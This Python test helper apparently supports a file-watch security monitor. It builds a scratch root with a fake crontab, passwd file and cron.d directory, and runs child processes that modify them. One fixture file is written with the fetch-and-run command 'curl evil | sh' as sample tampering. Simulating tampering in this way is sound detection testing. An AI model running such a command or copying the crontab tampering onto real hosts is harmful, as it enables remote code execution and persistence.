# SPDX-License-Identifier: Apache-2.0
"""A small host of its own for the tests of the file watch, and programs that change it."""

import os
import select
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from firedamp.events.model import FileChanged, ProcessKey
from firedamp.settings import Watch
from firedamp.sources.files import VARIANTS, FileWatch, Variant
from firedamp.sources.procfs import process_key

ORIGINAL = "* * * * * root true\n"
PRELUDE = """
import ctypes, fcntl, mmap, os, struct, subprocess, sys, time
root, file, place, other = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
def check(result):
    if result < 0: raise OSError(ctypes.get_errno(), 'libc')
    return result
def give_name(fd, path):
    check(libc.linkat(-100, b'/proc/self/fd/%d' % fd, -100, path.encode(), 0x400))
def private_mounts():
    check(libc.unshare(0x20000)); check(libc.mount(b'none', b'/', None, 0x44000, None))
"""
POSTLUDE = """
print('done', flush=True)
sys.stdin.read()
"""


class Scene:
    """A root of its own with a watched crontab, and a watch over it."""

    def __init__(self, root: Path, variants: tuple[Variant, ...] = VARIANTS) -> None:
        self.root = root
        self.file = root / "etc/crontab"
        self.place = root / "etc/cron.d"
        self.other = root / "other"
        for directory in (self.place, self.other, root / "home/bob", root / "root"):
            directory.mkdir(parents=True)
        self.file.write_text(ORIGINAL)
        (root / "etc/passwd").write_text("bob:x:1001:1001::/home/bob:/bin/sh\n")
        (self.other / "payload").write_text("curl evil | sh\n")
        (self.place / "known").write_text("known\n")
        os.link(self.place / "known", self.other / "known-too")
        self.watch = FileWatch(Watch(roots=(str(root),)), variants=variants)
        self._running: list[subprocess.Popen[bytes]] = []

    def run(self, *command: str, user: int = 0) -> ProcessKey:
        """Run a program that says when it is done and then waits; who it was."""
        process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, user=user, group=user
        )
        self._running.append(process)
        assert process.stdout is not None
        if process.stdout.readline() != b"done\n" and process.wait() == 77:
            pytest.skip("the kernel does not offer that call")
        key = process_key(process.pid)
        assert key is not None, f"{command} failed"
        return key

    def does(self, code: str, user: int = 0) -> ProcessKey:
        """Run a few lines of Python in a process that stays; who it was."""
        paths = map(str, (self.root, self.file, self.place, self.other))
        return self.run(sys.executable, "-IS", "-c", PRELUDE + code + POSTLUDE, *paths, user=user)

    def goes_on(self) -> None:
        """Let the program that was run last do the second half of what it does."""
        process = self._running[-1]
        assert process.stdin is not None
        assert process.stdout is not None
        process.stdin.write(b"\n")
        process.stdin.flush()
        assert process.stdout.readline() == b"done\n"

    def chattr(self, change: str) -> None:
        """Change an attribute of the crontab; skip where the file system has none."""
        changed = subprocess.run(
            ["chattr", change, self.file], capture_output=True, text=True, check=False
        )
        if changed.returncode:
            pytest.skip(f"this file system has no such attribute: {changed.stderr}")

    def ends(self) -> None:
        """Let the programs end, and wait for that."""
        for process in self._running:
            process.communicate()
        self._running.clear()

    def told(self) -> list[FileChanged]:
        """All that the watch has to tell."""
        told: list[FileChanged] = []
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            (fd,) = self.watch.filenos()
            if not select.select([fd], [], [], 0.1)[0]:
                break
            told += self.watch.read()
        return told

    def tells(self, operation: str, path: str) -> FileChanged:
        """Wait for an event of which no descriptor tells."""
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            for event in self.watch.read():
                if (event.operation, self.below(event.path)) == (operation, path):
                    return event
            time.sleep(0.05)
        pytest.fail(f"no {operation} of {path}")

    def operations(self) -> list[tuple[str, str]]:
        """What was done to which path below the root."""
        return [(event.operation, self.below(event.path)) for event in self.told()]

    def below(self, path: str) -> str:
        return os.path.relpath(path, self.root) if path else ""

    def close(self) -> None:
        self.ends()
        self.watch.close()


@contextmanager
def directory_on(mount: str) -> Iterator[Path]:
    """A directory of our own; file systems report changes differently."""
    path = Path(tempfile.mkdtemp(prefix="firedamp-", dir=mount))
    try:
        yield path
    finally:
        subprocess.run(["chattr", "-R", "-ia", str(path)], capture_output=True, check=False)
        shutil.rmtree(path)
